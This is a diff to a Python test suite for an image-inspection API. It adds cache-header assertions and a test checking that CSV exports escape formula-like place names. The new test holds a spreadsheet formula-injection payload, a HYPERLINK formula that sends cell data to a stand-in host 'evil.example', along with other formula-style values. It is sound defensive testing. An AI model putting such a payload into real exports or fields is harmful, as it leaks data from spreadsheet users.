@@ -99,6 +99,8 @@ def test_annotated_image_has_the_photos_size_and_shows_boxes(
         original = client.get(f"/v1/images/{image['id']}/original")
         missing = client.get("/v1/images/999999/annotated.jpg")
     assert annotated.status_code == 200 and annotated.headers["content-type"] == "image/jpeg"
+    assert "no-store" in annotated.headers["cache-control"], "boxes change as findings are reviewed"
+    assert original.headers["vary"] == "Authorization, X-API-Key", "a cached photo is only for a request with a key"
     drawn = cv2.imdecode(np.frombuffer(annotated.content, np.uint8), cv2.IMREAD_COLOR)
     plain = cv2.imdecode(np.frombuffer(original.content, np.uint8), cv2.IMREAD_COLOR)
     assert drawn is not None and plain is not None
@@ -134,3 +136,22 @@ def test_image_longer_than_a_jpeg_can_hold_is_drawn_scaled_down(
     assert annotated.status_code == 200, annotated.text
     drawn = cv2.imdecode(np.frombuffer(annotated.content, np.uint8), cv2.IMREAD_COLOR)
     assert drawn.shape[:2] == (65_500, 19)
+
+
+def test_csv_exports_do_not_hand_formulas_to_a_spreadsheet(
+    server: Server, inspector_key: str, integration_key: str, garbage_photos: list[Path], upload: Upload
+) -> None:
+    """Place names typed as formulas come out as text (a leading '); numbers, negative ones too, stay numbers."""
+    region = '=HYPERLINK("http://evil.example/?leak="&A2,"详情")'
+    photo = with_exif(garbage_photos[3], 28.7, -70.25, 10.0, "2024:06:01 08:00:00")
+    with server.client(inspector_key) as client:
+        response = upload(client, [("f.jpg", photo)], conf="0.001", region=region, township="+1+1", village="@SUM(1)")
+    assert response.status_code == 201 and response.json()["findings"], response.text
+    with server.client(integration_key) as client:
+        findings = client.get("/v1/findings.csv", params={"region": region})
+        summary = client.get("/v1/findings/summary.csv", params={"region": region})
+    rows = list(csv.DictReader(io.StringIO(findings.text.lstrip("\ufeff"))))
+    assert rows and all((r["region"], r["township"], r["village"]) == ("'" + region, "'+1+1", "'@SUM(1)") for r in rows)
+    assert all(r["lon"] == "-70.25" for r in rows), "a negative number is a number, not a formula"
+    (summary_row,) = csv.DictReader(io.StringIO(summary.text.lstrip("\ufeff")))
+    assert summary_row["region"] == "'" + region
